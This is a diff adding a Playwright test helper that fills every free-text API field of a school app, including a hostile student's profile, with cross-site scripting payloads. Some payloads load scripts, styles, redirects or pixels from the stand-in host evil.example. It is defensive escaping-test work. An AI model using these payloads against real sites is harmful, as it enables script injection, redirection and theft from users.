@@ -1,0 +1,108 @@
+// A school in which everybody writes attacks wherever a text can be written. `hostile.spec.ts` looks at it.
+import { randomUUID } from 'node:crypto'
+import { type APIRequestContext, expect } from '@playwright/test'
+import { allRoutes } from '../src/app/contract.ts'
+import { freeTextsOf } from '../src/app/testing-texts.ts'
+import type { Route } from '../src/shared/contract.ts'
+import { pathsOf } from '../src/shared/server/serve.ts'
+
+const evil = 'https://evil.example'
+
+/** Each would run `alert`, leave the page, or ask another site for something, wherever it were taken for more than text. */
+export const attacks: readonly string[] = [
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '<svg onload=alert(1)>',
+  `"><script src=${evil}/x.js></script>`,
+  `'"--></style></script><script>alert(1)</script>`,
+  '" autofocus onfocus=alert(1) x="',
+  '</textarea></title></noscript><img src=x onerror=alert(1)>',
+  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
+  '<details open ontoggle=alert(1)>alert(1)</details>',
+  '<a href="javascript:alert(1)">go</a>',
+  '[alert(1)](javascript:alert(1))',
+  `[alert(1)](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
+  `![evil.example](${evil}/pixel.png)`,
+  '![alert(1)](x"onerror="alert(1))',
+  `[alert(1)](${evil}/"onmouseover="alert(1))`,
+  `<${evil}/> <javascript:alert(1)> [alert(1)]( java\nscript:alert(1))`,
+  '[alert(1)][a]\n\n[a]: javascript:alert(1)',
+  '```html\n<img src=x onerror=alert(1)>\n```',
+  '```"onmouseover="alert(1)\nalert(1)\n```',
+  `$\\href{javascript:alert(1)}{alert(1)}$ $$\\includegraphics{${evil}/p.png}$$`,
+  '$\\htmlData{x=1"onclick=alert(1)}{alert(1)}$ $\\unicode{<img src=x onerror=alert(1)>}$',
+  '$\\def\\a{\\a\\a}\\a$ $\\url{javascript:alert(1)}$',
+  "{{constructor.constructor('alert(1)')()}} <%= alert(1) %> #{alert(1)} $" + '{alert(1)}',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<form id=location><input name=attributes onfocus=alert(1) autofocus></form>',
+  `<base href=${evil}/><meta http-equiv=refresh content="0;url=${evil}/">`,
+  `<style>@import url(${evil}/x.css);</style><link rel=stylesheet href=${evil}/x.css>`,
+  '<svg><a id=x><animate attributeName=href values=javascript:alert(1) /><text>alert(1)</text></a></svg>',
+  `${evil}/pixel.png?q="onclick="alert(1) <img src=${evil}/pixel.png>`,
+  `javascript:alert(1)//${evil}`,
+  '<template><img src=x onerror=alert(1)></template><object data=javascript:alert(1)><embed src=javascript:alert(1)>',
+  '&lt;img src=x onerror=alert(1)&gt; %3Cscript%3Ealert(1)%3C/script%3E \\u003cscript\\u003ealert(1)',
+  '\u202e<b/onclick=alert(1)>\u2028＜script＞alert(1)＜/script＞',
+]
+
+export type Person = {
+  readonly as: APIRequestContext
+  readonly id: string
+  readonly email: string
+  readonly at: number
+}
+
+/** For fields that hold thirty characters and less. */
+const small = ['<svg onload=alert(1)>', '<img src onerror=alert(1)>', '"onfocus=alert(1) x="', '{{alert(1)}}']
+
+/** What such a text may be taken for: an attack in all its length, or a small one where that is too long. */
+const fitting = (at: number, most = 200) => {
+  const attack = attacks[at % attacks.length] ?? ''
+  return attack.length <= most ? attack : (small.filter(({ length }) => length <= most)[at % 3] ?? '')
+}
+
+type Ask = { params?: Record<string, string>; body?: Record<string, unknown> }
+
+/** Fields of texts that are no free ones: names of files and of choices, addresses that the contract reads. */
+const bound = /(_|^)(url|urls|images|photo|avatar|type|timezone|domain|tenant|audience|website|offset)$|_date$|Id$/
+
+const byName = new Map(allRoutes.map(({ name, route }) => [name, route]))
+
+const freeTexts = (route: Route) => freeTextsOf(route).filter(({ field }) => !bound.test(field))
+
+/** Every call that takes a free text, by its name. */
+export const callsWithTexts = allRoutes
+  .filter(({ route }) => route.access !== 'public' && freeTexts(route).length > 0)
+  .map(({ name }) => name)
+
+/** Makes a call with an attack in each free text of its body that `ask` does not fill, and answers its data. */
+export async function attack(as: APIRequestContext, at: number, name: string, { params, body }: Ask = {}) {
+  const route = byName.get(name)
+  if (!route) throw new Error(`There is no call ${name}.`)
+  const path = pathsOf(route).find((each) => each.startsWith('/api/')) ?? ''
+  const texts = freeTexts(route).map(({ field, most, isList }) => [
+    field,
+    isList ? [fitting(at, most), fitting(at + 1, most)] : fitting(at, most),
+  ])
+  const answer = await as.fetch(
+    path.replace(/:(\w+)/g, (_, word: string) => params?.[word] ?? word),
+    { method: route.method, data: { ...Object.fromEntries(texts), ...body } },
+  )
+  expect(answer.ok(), `${name}: ${(await answer.text()).slice(0, 300)}`).toBe(true)
+  used.add(name)
+  const { data, ...rest } = (await answer.json()) as { data?: { id: string } }
+  return (data ?? rest) as { id: string }
+}
+
+/** The calls that were made so far. */
+export const used = new Set<string>()
+
+/** A student of the school with an attack for a name, and for all else that a profile holds. */
+export async function hostileStudent(as: APIRequestContext, at: number, domain: string): Promise<Person> {
+  const email = `hostile-${at}-${randomUUID()}@${domain}`
+  expect((await as.get(`/auth/google?login_hint=${encodeURIComponent(email)}`)).ok()).toBe(true)
+  expect((await as.post('/api/users/accept-terms')).ok()).toBe(true)
+  const body = { website: `${evil}/"onclick="alert(1)`, graduation_year: 2030 }
+  return { as, email, at, id: (await attack(as, at, 'people.update', { body })).id }
+}
